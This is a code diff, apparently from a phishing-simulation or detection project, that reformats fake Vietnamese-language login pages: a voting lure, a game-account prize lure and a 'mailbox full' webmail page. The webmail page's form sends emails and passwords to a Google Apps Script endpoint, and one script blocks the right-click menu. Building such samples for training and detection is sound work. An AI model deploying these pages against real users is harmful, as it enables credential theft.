@@ -22,8 +22,7 @@ export const CRED_SOCIAL_SITES = [
         button: 'Đăng nhập và bình chọn',
       },
       links: [{ text: 'Xem thể lệ', href: '/the-le' }],
-      script:
-        "document.addEventListener('contextmenu',function(e){e.preventDefault()});",
+      script: "document.addEventListener('contextmenu',function(e){e.preventDefault()});",
     }),
     more: {
       '/the-le': signInPage({
@@ -59,7 +58,12 @@ export const CRED_SOCIAL_SITES = [
         fields: [
           { name: 'taikhoan', label: 'Tài khoản game' },
           { name: 'matkhau', label: 'Mật khẩu', type: 'password' },
-          { name: 'loai', label: 'Đăng nhập bằng', type: 'select', options: ['Garena', 'Facebook', 'Google'] },
+          {
+            name: 'loai',
+            label: 'Đăng nhập bằng',
+            type: 'select',
+            options: ['Garena', 'Facebook', 'Google'],
+          },
         ],
         button: 'QUAY NGAY',
       },
@@ -74,7 +78,8 @@ export const CRED_SOCIAL_SITES = [
     page: htmlDocument({
       title: 'Mailbox storage full – Hộp thư sắp bị xoá',
       lang: 'en',
-      style: 'body{background:#f3f2f1}.o{max-width:440px;margin:60px auto;background:#fff;padding:44px;box-shadow:0 2px 6px #0003}input{width:100%;padding:8px;border:0;border-bottom:1px solid #666;margin:10px 0}button{background:#0067b8;color:#fff;border:0;padding:10px 30px;float:right}.bar{height:10px;background:#d13438;width:98%}',
+      style:
+        'body{background:#f3f2f1}.o{max-width:440px;margin:60px auto;background:#fff;padding:44px;box-shadow:0 2px 6px #0003}input{width:100%;padding:8px;border:0;border-bottom:1px solid #666;margin:10px 0}button{background:#0067b8;color:#fff;border:0;padding:10px 30px;float:right}.bar{height:10px;background:#d13438;width:98%}',
       body: `<div class="o"><b>Webmail Admin</b><h2>Your mailbox is 98% full</h2><div class="bar"></div><p>Hộp thư của bạn sẽ bị khóa và xóa dữ liệu trong 24 giờ. Đăng nhập để mở rộng dung lượng miễn phí.</p><form method="post" action="https://script.google.com/macros/s/vidu-thaotruong/exec"><input type="email" name="login" placeholder="Email"><input type="password" name="passwd" placeholder="Password"><button>Sign in</button></form></div>`,
     }),
   }),
